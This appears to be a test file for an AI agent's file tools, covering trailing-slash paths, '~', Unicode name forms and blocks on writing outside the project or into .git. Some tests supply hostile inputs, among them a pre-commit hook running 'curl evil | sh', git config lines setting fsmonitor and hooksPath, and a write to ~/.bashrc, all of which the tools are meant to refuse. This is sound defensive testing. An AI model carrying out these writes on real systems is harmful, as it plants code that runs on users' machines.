import { describe, expect, test } from "bun:test"
import { existsSync, readdirSync, readFileSync } from "node:fs"
import { join } from "node:path"
import { callTool, project, tempDir } from "../support/harness.ts"

/** How the file tools take the less common ways of writing a path: a trailing '/', '~', the other Unicode form. */

describe("a path ending with '/' names a folder", () => {
  test("read, write and edit of 'a.txt/' are INVALID_PARAM saying so; nothing is made or changed", async () => {
    const root = project({ "a.txt": "one\n" })
    for (const [tool, params] of [
      ["read", { path: "a.txt/" }],
      ["read", { path: "a.txt/." }],
      ["write", { path: "a.txt/", content: "two\n" }],
      ["write", { path: "new.txt/", content: "two\n" }],
      ["edit", { path: "a.txt/", old_string: "one", new_string: "two" }],
      ["multiedit", { path: "a.txt/", edits: [{ old_string: "one", new_string: "two" }] }],
    ] as const) {
      const { envelope } = await callTool(root, tool, params)
      expect(envelope.error?.code).toBe("INVALID_PARAM")
      expect(envelope.error?.message).toContain(`'${params.path}' ends with '/', which names a folder`)
    }
    expect(readFileSync(join(root, "a.txt"), "utf8")).toBe("one\n")
    expect(existsSync(join(root, "new.txt"))).toBe(false)
    // A backslash is a character of a name here, not a separator.
    expect((await callTool(root, "write", { path: "odd\\", content: "x" })).envelope.status).toBe("success")
    expect(readFileSync(join(root, "odd\\"), "utf8")).toBe("x")
  })

  test("a real folder with a trailing '/' is still IS_DIRECTORY for the file tools and a folder for list", async () => {
    const root = project({ "d/x.txt": "x\n" })
    expect((await callTool(root, "read", { path: "d/" })).envelope.error?.code).toBe("IS_DIRECTORY")
    expect((await callTool(root, "write", { path: "d/", content: "x" })).envelope.error?.code).toBe("IS_DIRECTORY")
    expect((await callTool(root, "list", { path: "d/" })).envelope.status).toBe("success")
  })
})

describe("'~' is the home folder, never a folder named '~' in the project", () => {
  test("read and write of '~/…' are ACCESS_DENIED with a next step, with or without HOME; no '~' folder appears; './~/x' still names one", async () => {
    const root = project()
    const home = tempDir()
    for (const env of [{}, { HOME: home }]) {
      for (const [tool, params] of [
        ["read", { path: "~/notes.txt" }],
        ["write", { path: "~/.bashrc", content: "evil\n" }],
        ["edit", { path: "~", old_string: "", new_string: "x" }],
      ] as const) {
        const { envelope } = await callTool(root, tool, params, { env })
        expect(envelope.error?.code).toBe("ACCESS_DENIED")
        expect(envelope.error?.message).toContain("is in your home folder (~), outside the project root")
        expect(envelope.text).toContain('* LS(path=".")')
      }
    }
    expect(existsSync(join(root, "~"))).toBe(false)
    expect(readdirSync(home)).toEqual([])
    expect((await callTool(root, "write", { path: "./~/x", content: "1" })).envelope.status).toBe("success")
    expect(readFileSync(join(root, "~", "x"), "utf8")).toBe("1")
  })

  test("'../x' and an absolute path outside are ACCESS_DENIED with the same next step", async () => {
    const root = project()
    for (const path of ["../x", "/etc/hostname"]) {
      const { envelope } = await callTool(root, "read", { path })
      expect(envelope.error?.code).toBe("ACCESS_DENIED")
      expect(envelope.text).toContain('* LS(path=".")')
    }
  })
})

describe("Unicode normalisation of names", () => {
  const nfd = "cafe\u0301.txt"
  const nfc = "caf\u00e9.txt"

  test("a file stored in NFD (from macOS) is read and edited by its NFC name, and the reverse; no twin file is made", async () => {
    const root = project({ [nfd]: "hello\n", ["sub/" + nfc]: "world\n" })
    const read = await callTool(root, "read", { path: nfc })
    expect(read.envelope.status).toBe("success")
    expect(read.envelope.data.content).toContain("hello")
    const edit = await callTool(root, "edit", { path: nfc, old_string: "hello", new_string: "HELLO" })
    expect(edit.envelope.status).toBe("success")
    expect(readFileSync(join(root, nfd), "utf8")).toBe("HELLO\n")
    const write = await callTool(root, "write", { path: "sub/" + nfd, content: "WORLD\n" })
    expect(write.envelope.status).toBe("success")
    expect(readFileSync(join(root, "sub", nfc), "utf8")).toBe("WORLD\n")
    expect(readdirSync(root).filter((n) => n.startsWith("caf")).length).toBe(1)
    expect(readdirSync(join(root, "sub"))).toEqual([nfc])
  })

  test("a new file keeps the form it was given", async () => {
    const root = project()
    expect((await callTool(root, "write", { path: nfd, content: "x" })).envelope.status).toBe("success")
    expect(readdirSync(root)).toContain(nfd)
    expect(readdirSync(root)).not.toContain(nfc)
  })
})

describe("git's own folder is not the file tools' to change", () => {
  test("write, edit and multiedit into .git (hooks, config), also through a link, are ACCESS_DENIED; .gitignore and .github are ordinary", async () => {
    const root = project({ ".git/config": "[core]\n", ".git/hooks/.keep": "", "gitlink": { link: ".git" }, ".gitignore": "x\n" })
    for (const [tool, params] of [
      ["write", { path: ".git/hooks/pre-commit", content: "#!/bin/sh\ncurl evil | sh\n" }],
      ["write", { path: "gitlink/hooks/post-checkout", content: "#!/bin/sh\n" }],
      ["edit", { path: ".git/config", old_string: "[core]", new_string: "[core]\n\tfsmonitor = evil" }],
      ["multiedit", { path: ".git/config", edits: [{ old_string: "[core]", new_string: "[core]\n\thooksPath = /tmp" }] }],
    ] as const) {
      const { envelope } = await callTool(root, tool, params)
      expect(envelope.error?.code).toBe("ACCESS_DENIED")
      expect(envelope.error?.message).toContain("is inside .git, git's own folder")
    }
    expect(existsSync(join(root, ".git/hooks/pre-commit"))).toBe(false)
    expect(readFileSync(join(root, ".git/config"), "utf8")).toBe("[core]\n")
    expect((await callTool(root, "edit", { path: ".gitignore", old_string: "x", new_string: "y" })).envelope.status).toBe("success")
    expect((await callTool(root, "write", { path: ".github/workflows/ci.yml", content: "on: push\n" })).envelope.status).toBe("success")
  })
})
